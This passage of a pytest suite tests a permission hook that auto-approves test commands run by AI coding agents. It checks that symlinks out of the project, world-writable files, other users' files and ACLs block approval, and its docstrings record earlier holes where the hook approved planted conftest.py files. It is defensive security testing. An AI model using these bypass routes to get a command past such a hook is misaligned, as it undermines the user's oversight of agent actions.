    (config / "hooks.toml").write_text('wrap = ["./run-tests.sh"]\napprove = ["./run-tests.sh"]\n')
    project = tmp_path / "proj"
    project.mkdir()
    script = project / "run-tests.sh"
    script.write_text("#!/bin/sh\n")
    script.chmod(0o755)
    assert _approved(agent, "./run-tests.sh", project, env)
    script.unlink()
    (tmp_path / "evil.sh").write_text("#!/bin/sh\n")
    script.symlink_to(tmp_path / "evil.sh")
    assert not _approved(agent, "./run-tests.sh", project, env)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_a_project_folder_others_may_write_to_is_not_approved(agent: str, tmp_path: Path) -> None:
    """Run in /tmp itself, pytest -q was approved: anyone may have put a conftest.py there."""
    env = _env(tmp_path)
    (tmp_path / "shared").mkdir()
    assert _approved(agent, "pytest -q", tmp_path / "shared", env)
    (tmp_path / "shared").chmod(0o1777)
    assert not _approved(agent, "pytest -q", tmp_path / "shared", env)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_a_link_out_in_a_venv_or_a_named_git_folder_and_a_folder_others_may_write_leave_it_alone(
    agent: str, tmp_path: Path
) -> None:
    """helper-54: a folder holding a pyvenv.cfg, or a path in .git named on the command line, hid a
    link out from the walk (pytest -q v collected v/tests, linked to another user's folder); a
    sub-folder others may write to held their conftest.py, and pytest ran it as the user."""
    env, project, outside = _env(tmp_path), tmp_path / "proj", tmp_path / "outside"
    (project / ".git" / "x").mkdir(parents=True)
    (project / "v" / "bin").mkdir(parents=True)
    (project / "v" / "lib" / "python3.11" / "site-packages").mkdir(parents=True)
    (project / "tests").mkdir()
    outside.mkdir()
    (project / "v" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (project / "v" / "bin" / "python3").symlink_to(sys.executable)  # (the interpreter venv links to)
    (project / "v" / "lib" / "python3.11" / "site-packages" / "dep").symlink_to(outside)
    assert not _approved(agent, "pytest -q", project, env)  # (its links too, helper-59)
    (project / "v" / "lib" / "python3.11" / "site-packages" / "dep").unlink()
    assert _approved(agent, "pytest -q", project, env)
    assert not _approved(agent, "pytest -q v/lib/python3.11/site-packages", project, env)
    (project / "v" / "tests").symlink_to(outside)
    assert not _approved(agent, "pytest -q v", project, env)
    assert not _approved(agent, "node --test", project, env)
    (project / "v" / "tests").unlink()
    (project / "v" / "bin" / "python").symlink_to(outside / "python")  # (a make recipe runs v/bin/python)
    assert not _approved(agent, "make test", project, env)
    (project / "v" / "bin" / "python").unlink()
    (project / ".git" / "x" / "tests").symlink_to(outside)
    assert not _approved(agent, "node --test", project, env)  # (node collects in .git, helper-58)
    (project / ".git" / "x" / "tests").unlink()
    assert not _approved(agent, "pytest -q .git", project, env)
    tests = project / "tests"
    tests.chmod(0o775)  # (g+w for the user's own group: with umask 002, a group of one)
    assert _approved(agent, "pytest -q", project, env)
    tests.chmod(0o777)
    assert not _approved(agent, "pytest -q", project, env)
    assert not _approved(agent, "cd tests && make test", project, env)
    tests.chmod(0o775)
    if os.getuid() == 0:  # (only root may give a folder another group)
        os.chown(tests, -1, os.getgid() + 1)
        assert not _approved(agent, "pytest -q", project, env)
        os.chown(tests, -1, os.getgid())
    tests.chmod(0o755)
    assert _approved(agent, "pytest -q", project, env)


def _project(tmp_path: Path) -> Path:
    """A small repository with a test, in ``tmp_path/proj``."""
    project = tmp_path / "proj"
    (project / ".git").mkdir(parents=True)
    (project / "tests").mkdir()
    (project / "tests" / "test_a.py").write_text("def test_a():\n    pass\n")
    return project


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_links_through_or_around_the_project_and_files_others_may_change_leave_it_alone(
    agent: str, tmp_path: Path
) -> None:
    """helper-58: a link into the project through another user's link (they switch it later), a
    file others may write, a loop of links (a traceback, no answer), a CACHEDIR.TAG in src/ for
    cargo, a venv's lib64 linked to a folder out, a .python-version above: each was approved, or
    crashed the hook."""
    env, project, outside = _env(tmp_path), _project(tmp_path), tmp_path / "outside"
    outside.mkdir()
    assert _approved(agent, "pytest -q", project, env)
    (project / "real").mkdir()
    (outside / "hop").symlink_to(project / "real")
    (project / "linked").symlink_to(outside / "hop")  # (it ends in the project, by way of a link out)
    assert not _approved(agent, "pytest -q", project, env)
    (project / "linked").unlink()
    (project / "loop1").symlink_to(project / "loop2")
    (project / "loop2").symlink_to(project / "loop1")
    assert not _approved(agent, "pytest -q", project, env)
    assert not _approved(agent, "cd loop1 && make", project, env)
    assert not _approved(agent, "pytest -q loop1", project, env)
    (project / "loop1").unlink()
    (project / "loop2").unlink()
    conftest = project / "tests" / "conftest.py"
    conftest.write_text("")
    conftest.chmod(0o666)
    assert not _approved(agent, "pytest -q", project, env)
    conftest.chmod(0o644)
    assert _approved(agent, "pytest -q", project, env)
    (project / "src").mkdir()
    (project / "src" / "CACHEDIR.TAG").write_text("Signature: 8a477f597d28d172789f06886806bc55\n")
    (project / "src" / "main.rs").symlink_to(outside / "main.rs")
    assert not _approved(agent, "cargo test", project, env)  # (a tag hides only cargo's target/)
    (project / "src" / "main.rs").unlink()
    (project / ".venv" / "bin").mkdir(parents=True)
    (project / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (project / ".venv" / "lib64").symlink_to(outside)
    assert not _approved(agent, "node --test", project, env)
    (project / ".venv" / "lib64").unlink()
    (project / ".venv" / "lib64").symlink_to("lib")  # (as venv makes it)
    assert _approved(agent, "node --test", project, env)
    (tmp_path / ".python-version").write_text("2.7.18\n")  # (pyenv picks the interpreter from a parent's)
    assert not _approved(agent, "pytest -q", project, env)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_what_another_user_may_change_leaves_it_alone_even_for_root(agent: str, tmp_path: Path) -> None:
    """helper-58: as root, a folder above the project that another user owns became the project (its
    .git) and its conftest.py ran as root; a file of theirs in the project, a folder of a group
    they are in, a folder an ACL lets them write, and an approve list run in a folder they may
    write to were approved."""
    if os.getuid() != 0:
        pytest.skip("only root may give files to another user")
    try:
        nobody = pwd.getpwnam("nobody")
    except KeyError:
        pytest.skip("no user named nobody")
    env = _env(tmp_path)
    theirs = tmp_path / "theirs"
    project = _project(theirs)
    assert _approved(agent, "pytest -q", project, env)
    os.chown(theirs, nobody.pw_uid, -1)
    assert not _approved(agent, "pytest -q", project, env)  # (they may put another folder in its place)
    (project / ".git").rmdir()
    (theirs / ".git").mkdir()  # (their repository around the project: it was taken for the project)
    (theirs / "pytest.ini").write_text("[pytest]\n")
    (theirs / "conftest.py").write_text("")
    for path in (theirs / ".git", theirs / "pytest.ini", theirs / "conftest.py"):
        os.chown(path, nobody.pw_uid, -1)
    assert not _approved(agent, "pytest -q", project, env)
    os.chown(theirs, 0, -1)
    assert not _approved(agent, "pytest -q", project, env)  # (their .git: the files above are above)
    for name in ("conftest.py", "pytest.ini"):
        (theirs / name).unlink()
    (theirs / ".git").rmdir()
    (project / ".git").mkdir()
    tests = project / "tests"
    os.chown(tests / "test_a.py", nobody.pw_uid, -1)
    assert not _approved(agent, "pytest -q", project, env)
    os.chown(tests / "test_a.py", 0, -1)
    tests.chmod(0o775)
    os.chown(tests, -1, nobody.pw_gid)  # (a group of another user's)
    assert not _approved(agent, "pytest -q", project, env)
    os.chown(tests, -1, 0)
    assert _approved(agent, "pytest -q", project, env)
    # an ACL entry for another user shows as g+w (its mask) in the mode
    acl = struct.pack("<I", 2) + b"".join(
        struct.pack("<HHI", tag, perm, ident)
        for tag, perm, ident in (
            (1, 7, 0xFFFFFFFF),
            (2, 7, nobody.pw_uid),
            (4, 5, 0xFFFFFFFF),
            (16, 7, 0xFFFFFFFF),
            (32, 5, 0xFFFFFFFF),
        )
    )
    try:
        os.setxattr(tests, "system.posix_acl_access", acl)
    except OSError:
        pass  # (a file system without ACLs)
    else:
        assert not _approved(agent, "pytest -q", project, env)
        os.removexattr(tests, "system.posix_acl_access")
    tests.chmod(0o755)
    assert _approved(agent, "pytest -q", project, env)
    # the approve list: in a folder others may write to, as the built-in list
    _hooks_toml(tmp_path, 'approve = ["make test"]\n')
    assert _approved(agent, "make test", project, env)
    project.chmod(0o777)
    try:
        assert not _approved(agent, "make test", project, env)
    finally:
        project.chmod(0o755)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_the_whole_project_and_what_was_installed_or_built_in_it_is_looked_at(agent: str, tmp_path: Path) -> None:
    """helper-59: a command run in a sub-folder had only that folder walked (npm test there runs the
    root's package.json, which another user could change); cargo's target/ was not looked in, and
    cargo runs its test binaries from there; a ".." after a link in a link's target was read as
    text; a venv's site-packages and .git/objects were skipped by their names anywhere (node
    collects in them); a pyvenv.cfg's home, a worktree's git directory and HOME were trusted."""
    env, project, outside = _env(tmp_path), _project(tmp_path), tmp_path / "outside"
    (outside / "a" / "b").mkdir(parents=True)
    (project / "sub").mkdir()
    assert _approved(agent, "pytest -q", project / "sub", env)
    (project / "package.json").write_text('{"scripts": {"test": "node --test"}}')
    (project / "package.json").chmod(0o666)
    assert not _approved(agent, "npm test", project / "sub", env)
    (project / "package.json").chmod(0o644)
    assert _approved(agent, "npm test", project / "sub", env)
    # cargo's target: looked through for links and folders
    (project / "Cargo.toml").write_text('[package]\nname = "p"\nversion = "0.1.0"\n')
    (project / "target" / "debug" / "deps").mkdir(parents=True)
    (project / "target" / "CACHEDIR.TAG").write_text("Signature: 8a477f597d28d172789f06886806bc55\n")
    (project / "target" / "debug" / "deps" / "p-test").symlink_to(outside / "evil")
    assert not _approved(agent, "cargo test", project, env)
    (project / "target" / "debug" / "deps" / "p-test").unlink()
    (project / "target" / "debug" / "deps").chmod(0o777)
    assert not _approved(agent, "cargo test", project, env)
    (project / "target" / "debug" / "deps").chmod(0o755)
    assert _approved(agent, "cargo test", project, env)
    # a ".." after a link goes up from where the link leads, as the kernel reads it
    (outside / "s").symlink_to(outside / "a" / "b")
    (project / "tests" / "conftest.py").symlink_to(f"../../outside/s/../../{project.name}/tests/test_a.py")
    assert not _approved(agent, "pytest -q", project, env)
    (project / "tests" / "conftest.py").unlink()
    # skipped names count only where the tools make them
    (project / "test" / ".git" / "objects").mkdir(parents=True)
    (project / "test" / ".git" / "objects" / "x.test.js").symlink_to(outside / "x.test.js")
    assert not _approved(agent, "node --test", project, env)
    (project / "test" / ".git" / "objects" / "x.test.js").unlink()
    # a venv's home, a worktree's git directory, a home others may write
    (project / ".venv").mkdir()
    (project / ".venv" / "pyvenv.cfg").write_text(f"home = {outside}\n")
    outside.chmod(0o777)
    try:
        assert not _approved(agent, "pytest -q", project, env)
        (project / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
        assert _approved(agent, "pytest -q", project, env)
        (project / ".git").rmdir()
        (outside / "gitdir").mkdir()
        (outside / "gitdir").chmod(0o777)
        (project / ".git").write_text(f"gitdir: {outside / 'gitdir'}\n")
        assert not _approved(agent, "make test", project, env)
        (project / ".git").unlink()
        (project / ".git").mkdir()
        (tmp_path / "pytest.ini").write_text("[pytest]\n")
        assert _approved(agent, "pytest -q", project, {**env, "HOME": str(tmp_path)})  # (the user's home)
        tmp_path.chmod(0o1777)
        try:
            assert not _approved(agent, "pytest -q", project, {**env, "HOME": str(tmp_path)})
        finally:
            tmp_path.chmod(0o755)
    finally:
        outside.chmod(0o755)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_another_users_files_anywhere_it_runs_from_leave_it_alone(agent: str, tmp_path: Path) -> None:
    """helper-61: as root, a project of another user's counted as root's own (and a nested one of
    theirs reached by Codex's workdir); another user's file hard-linked into node_modules or
    cargo's target ran; a dotfile in the home folder linked to another user's file was not looked
    at; a hooks.toml others may write approved what it listed; asdf's .tool-versions above."""
    env, project = _env(tmp_path), _project(tmp_path)
    assert _approved(agent, "pytest -q", project, env)
    (tmp_path / ".tool-versions").write_text("python 3.11.7\n")
    assert not _approved(agent, "pytest -q", project, env)
    (tmp_path / ".tool-versions").unlink()
    (project / "node_modules" / "dep").mkdir(parents=True)
    (project / "node_modules" / "dep" / "index.js").write_text("module.exports = 1\n")
    (project / "node_modules" / "dep" / "index.js").chmod(0o666)
    assert not _approved(agent, "npm test", project, env)
    (project / "node_modules" / "dep" / "index.js").chmod(0o644)
    assert _approved(agent, "npm test", project, env)
    home = tmp_path / "home"
    home.mkdir()
    (tmp_path / "shared.py").write_text("")
    (home / "conftest.py").symlink_to(tmp_path / "shared.py")
    inside = home / "proj"
    (inside / ".git").mkdir(parents=True)
    assert not _approved(agent, "pytest -q", inside, env)
    (home / "conftest.py").unlink()
    (home / "conftest.py").write_text("")
    assert _approved(agent, "pytest -q", inside, env)  # (the user's own file in the user's home)
    config = _hooks_toml(tmp_path, 'approve = ["make deploy"]\n')
    assert _approved(agent, "make deploy", project, env)
    config.chmod(0o666)
    assert not _approved(agent, "make deploy", project, env)
    config.chmod(0o644)
    if os.getuid() == 0:
        try:
            nobody = pwd.getpwnam("nobody")
        except KeyError:
            return
        os.chown(project / "node_modules" / "dep" / "index.js", nobody.pw_uid, -1)
        assert not _approved(agent, "npm test", project, env)
        os.chown(project / "node_modules" / "dep" / "index.js", 0, -1)
        for path in [project, *project.rglob("*")]:
            os.chown(path, nobody.pw_uid, -1, follow_symlinks=False)
        assert not _approved(agent, "pytest -q", project, env)  # (root's own files only)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_a_rule_that_forbids_holds_under_its_own_other_names(agent: str, tmp_path: Path) -> None:
    """helper-66: a rule on ``npm run test`` or ``python3 -m pytest`` held for those words alone:
    ``npm test``, ``npm t`` and ``pytest`` were approved (a rule on ``npm test`` held for all)."""
    env = _env(tmp_path)
    (tmp_path / "package.json").write_text('{"name": "p", "scripts": {"test": "echo t"}}')
    if agent == "codex":
        rules = tmp_path / "home" / ".codex" / "rules"
        rules.mkdir(parents=True)
        (rules / "default.rules").write_text(
            'prefix_rule(pattern = ["npm", "run", "test"], decision = "forbidden")\n'
            'prefix_rule(pattern = ["python3", "-m", "pytest"], decision = "forbidden")\n'
        )
    else:
        (tmp_path / "config" / "cursor").mkdir(parents=True)
        (tmp_path / "config" / "cursor" / "cli-config.json").write_text(
            json.dumps({"permissions": {"deny": ["Shell(npm run test)", "Shell(python3 -m pytest)"]}})
        )
    for command in ("npm run test", "npm test", "npm t", "python3 -m pytest", "pytest", "pytest -q"):
        assert not _approved(agent, command, tmp_path, env), command
    assert _approved(agent, "make test", tmp_path, env)  # (what the rules do not name, as before)
